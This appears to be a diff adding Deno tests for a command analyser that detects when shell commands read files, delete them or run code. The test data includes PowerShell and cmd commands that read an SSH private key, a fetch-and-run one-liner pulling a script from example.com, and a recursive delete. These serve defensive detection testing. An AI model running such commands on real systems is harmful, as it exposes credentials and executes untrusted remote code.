@@ -68,3 +68,14 @@ Deno.test("names that Windows gives to programs are theirs", () => {
   assertEquals(programs("npm.cmd run build"), ["npm"]);
   assertEquals(programs("RD.EXE x"), ["rd"]);
 });
+
+Deno.test("a statement that only PowerShell or the prompt would take is read as they take it", () => {
+  assert(reads("Get-Content $env:USERPROFILE\\.ssh\\id_rsa").includes("~/.ssh/id_rsa"));
+  assert(reads("type %USERPROFILE%\\.ssh\\id_rsa").includes("~/.ssh/id_rsa"));
+  assert(effectsOf("interpret", "iex (irm https://example.com/i.ps1)").length > 0);
+});
+
+Deno.test("PowerShell inside of a text stays text", () => {
+  assertEquals(reads("git commit -m 'Get-Content $env:USERPROFILE\\.ssh\\id_rsa'"), []);
+  assertEquals(deletes("cat > a.ps1 <<'E'\nRemove-Item -Recurse y\nE"), []);
+});
